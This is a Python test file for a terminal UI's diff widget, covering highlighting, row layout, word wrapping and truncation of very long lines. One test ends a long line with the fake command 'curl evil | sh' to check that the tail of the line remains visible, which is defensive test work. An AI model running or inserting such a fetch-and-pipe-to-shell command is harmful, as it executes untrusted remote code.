"""Lines of a difference that are coloured together look like lines that are coloured alone."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from acp_tui.ui.application.theme_files import choose, styles_of
from acp_tui.ui.widgets import code as code_module
from acp_tui.ui.widgets.diff import paint as diff_colours
from acp_tui.ui.widgets.diff.line_diff import compute
from acp_tui.ui.widgets.diff.paint import (
    FEW,
    MOST_ROWS,
    WINDOW,
    DiffHighlighter,
    diff_rows,
    height_of,
    reaches_over,
)
from acp_tui.ui.widgets.diff.rows import ComparedFile, FileDiff
from acp_tui.ui.widgets.styles import Styles
from acp_tui.ui.widgets.text import TAB, Row, cuts, row_cells, row_text, safe
from tests.tables import each
from tests.ui.widgets.differing import NEW, ODD, OLD, STYLES

CODE = [
    "def first(left, right):",
    '    """Say what it is for,',
    "    if this is more than one line.",
    '    """',
    "    return left + right  # a comment",
    "",
    "VALUES = [1, 2, 'three']",
    "text = '''",
    "def in a string",
    "'''",
] * 10
SCRIPT = ["const a = 1; /* one", "if two", "*/ let b = `x", "let y`", "function f() { return 'a' }", ""] * 10


@pytest.mark.parametrize(("path", "lines"), [("a.py", CODE), ("a.ts", SCRIPT), ("a.sh", CODE)])
def test_a_line_has_the_colours_that_it_has_in_its_window(path: str, lines: list[str]) -> None:
    language = code_module.language_of_file(path)
    colours = DiffHighlighter([], lines, path)

    for index in range(len(lines)):
        start = index - index % WINDOW
        window = code_module.highlight(language, "\n".join(lines[start : start + WINDOW])).lines
        assert colours.line(False, index) == window[index - start]


@pytest.mark.slow
def test_our_own_code_looks_the_same_in_small_groups() -> None:
    for path in Path(diff_colours.__file__).parent.glob("*.py"):
        lines = path.read_text().splitlines()
        colours = DiffHighlighter(lines, [], path.name)
        for index in range(len(lines)):
            start = index - index % WINDOW
            window = code_module.highlight("python", "\n".join(lines[start : start + WINDOW])).lines
            assert colours.line(True, index) == window[index - start], f"{path.name}:{index + 1}"


def test_one_line_of_a_long_file_costs_the_colours_of_few(monkeypatch: pytest.MonkeyPatch) -> None:
    coloured: list[int] = []
    highlight = code_module.highlight

    def counted(language: str, code: str) -> code_module.HighlightedLines:
        coloured.append(code.count("\n") + 1)
        return highlight(language, code)

    monkeypatch.setattr(diff_colours, "highlight", counted)
    plain = DiffHighlighter([f"line = {number}" for number in range(1_000)], [], "a.py")

    plain.line(True, 500)
    plain.line(True, 501)

    assert coloured == [FEW]


def test_what_may_go_on_in_the_next_line_is_known() -> None:
    assert reaches_over(["x = 1", 'y = """'])
    assert reaches_over(["a /* b"])
    assert reaches_over(['let a = "over two'])
    assert reaches_over(["a = 1 + \\"])
    assert not reaches_over(["x = 1", 'y = "z"', "# it's", ""])


def plain(rows: list[Row]) -> list[str]:
    return ["".join(segment.text for segment in row).rstrip() for row in rows]


def test_rows_for_a_card_show_the_change_and_say_how_much_is_left() -> None:
    difference = compute(OLD, NEW)

    rows = plain(diff_rows(difference, "a.py", 80, STYLES, limit=6))

    assert len(rows) == 6
    assert rows[0] == " ▸ 17 unchanged lines"
    assert any("− value_20 = 20" in row for row in rows)
    assert "more rows" in rows[-1]
    assert len(diff_rows(difference, "a.py", 80, STYLES, limit=1_000)) < 20


def test_rows_of_a_snippet_have_no_line_numbers() -> None:
    rows = plain(diff_rows(compute("a\n", "b\n", first_line=None), "a.py", 40, STYLES, limit=9))
    assert rows == ["− a", "+ b"]


def test_rows_are_as_wide_as_asked() -> None:
    rows = diff_rows(compute(ODD, ODD.upper()), "a.py", 33, STYLES, limit=9)
    assert {sum(segment.cell_length for segment in row) for row in rows} == {33}


def test_changed_words_stand_on_the_ground_of_their_role() -> None:
    rows = diff_rows(compute("keep the old one\n", "keep the new one\n"), "a.txt", 60, STYLES, limit=9)
    grounds = {
        segment.text: segment.style.bgcolor for row in rows for segment in row if segment.style is not None
    }
    assert grounds["old"] == STYLES["removed-word"].bgcolor
    assert grounds["new"] == STYLES["added-word"].bgcolor


def test_rows_work_in_the_empty_ascii_look() -> None:
    rows = plain(diff_rows(compute("a\n", "b\n"), "a.txt", 30, Styles(ascii=True), limit=9))
    assert rows == ["  1 - a", "  1 + b"]


def test_a_line_of_half_a_megabyte_is_painted_quickly() -> None:
    difference = compute("x" * 570_000, "y" * 570_000)
    diff_rows(difference, "a.json", 80, STYLES, limit=5)

    start = time.process_time()
    rows = diff_rows(difference, "a.json", 80, STYLES, limit=5)

    assert time.process_time() - start < 0.5
    assert plain(rows)[-1].endswith("…+569,939")


@each("room", [1, 2, 7, 40])
@each(
    "line",
    ["", "x" * 41, "\ta\t" * 9, "日本" * 30, "Приве́т, мир " * 9, "a\x1b[2J" * 20, "👨‍👩‍👧e\u0301 " * 12],
)
def test_a_line_takes_as_many_rows_as_are_painted_and_none_is_lost(line: str, room: int) -> None:
    compared = ComparedFile(FileDiff("a", None, f"{line}\n"))
    compared.difference = compared.compare()
    painter = compared.painter(room + 6, styles_of(choose("acp-dark")[0]), False)
    assert painter.room == room
    (part,) = [part for part in compared.parts(False, False, painter) if part.kind == "added"]

    assert part.rows == height_of(line, room)
    laid_out = len(cuts(safe(line).replace("\t", TAB), room, words=False))
    assert part.rows >= laid_out
    if " " not in line and line.isascii():
        assert part.rows == laid_out
    elif " " not in line and room >= 7 and "\u200d" not in line:  # joined characters count one by one
        assert part.rows <= laid_out + 1
    assert all(row_cells(painter.row(part, number)) == room + 6 for number in range(part.rows))
    if room >= 2 and "\x1b" not in line and "\t" not in line:
        painted = "".join(row_text(painter.row(part, number))[6:].rstrip() for number in range(part.rows))
        assert painted.replace(" ", "").replace("·", "") == line.replace(" ", "")


def rows_of(line: str, room: int) -> list[str]:
    compared = ComparedFile(FileDiff("a", None, f"{line}\n"))
    compared.difference = compared.compare()
    painter = compared.painter(room + 6, styles_of(choose("acp-dark")[0]), False)
    (part,) = [part for part in compared.parts(False, False, painter) if part.kind == "added"]
    return [row_text(painter.row(part, number))[6:] for number in range(part.rows)]


def test_a_long_line_is_broken_between_words_and_keeps_its_blanks() -> None:
    assert rows_of("one two  three four", 10) == ["one two  ".ljust(10), "three four"]
    assert rows_of("    indented_and_long and more", 12) == [
        "    indented",
        "_and_long   ",
        "and more".ljust(12),
    ]
    assert rows_of("one two three", 7) == ["one two", "three".ljust(7)]
    assert rows_of("one two  three", 7) == ["one two", "  three"]
    assert rows_of("one two-more", 7) == ["one    ", "two-mor", "e".ljust(7)]
    assert rows_of("für später “mehr”", 11) == ["für später ", "“mehr”".ljust(11)]
    assert rows_of("\tif a:\tb", 9) == ["    if a:", "    b".ljust(9)]


def test_an_endless_line_is_wrapped_in_time() -> None:
    began = time.process_time()

    assert height_of("日" * 1_000_000, 80) <= 2 * MOST_ROWS + 20
    assert height_of("x" * 10_000_000, 80) == MOST_ROWS + 1
    assert time.process_time() - began < 2


@pytest.mark.slow
@each("more", [1, 2, 20_000])
@each("unit", ["x", "word ", "日", "\t"])
def test_of_a_very_long_line_the_beginning_the_end_and_the_number_of_what_is_between_are_seen(
    unit: str, more: int
) -> None:
    room = 20
    inner = unit * (room * MOST_ROWS // len(unit) + more)
    line = f"HEAD {inner}; curl evil | sh"

    rows = rows_of(line, room)

    assert rows[0].startswith("HEAD")
    assert ";curlevil|sh" in "".join("".join(rows[-4:]).split())
    (place,) = (number for number, row in enumerate(rows) if row.startswith("…"))
    assert rows[place].startswith(f"… {len(line) - room * MOST_ROWS:,} chara")


def test_a_line_that_just_fits_is_shown_whole_whatever_it_is_made_of() -> None:
    for unit in ("x", "ab cdefghijklmnop ", "日"):
        line = (unit * 10_000)[: 20 * MOST_ROWS]
        shown = "".join("".join(rows_of(line, 20)).replace("·", "").split())
        assert shown == line.replace(" ", "")


@pytest.mark.parametrize(
    ("line", "pan", "end"),
    [
        ("x" * 74, 0, "xxx"),
        ("x" * 75, 0, "…+4"),
        ("x" * 60_000, 0, "…+59,934"),
        ("x" * 60_000, 100, "…+59,834"),
        ("x" * 60_000, 59_980, "xxx"),
        ("日" * 100, 0, "…+131"),
    ],
)
def test_a_line_that_is_not_wrapped_tells_how_much_is_left_to_the_right(
    line: str, pan: int, end: str
) -> None:
    compared = ComparedFile(FileDiff("a", None, f"{line}\n"))
    compared.difference = compared.compare()
    painter = compared.painter(84, styles_of(choose("acp-dark")[0]), False)
    (part,) = [part for part in compared.parts(False, False, None) if part.kind == "added"]

    row = painter.row(part, 0, pan)

    assert row_cells(row) == 84
    assert row_text(row).rstrip().endswith(end)
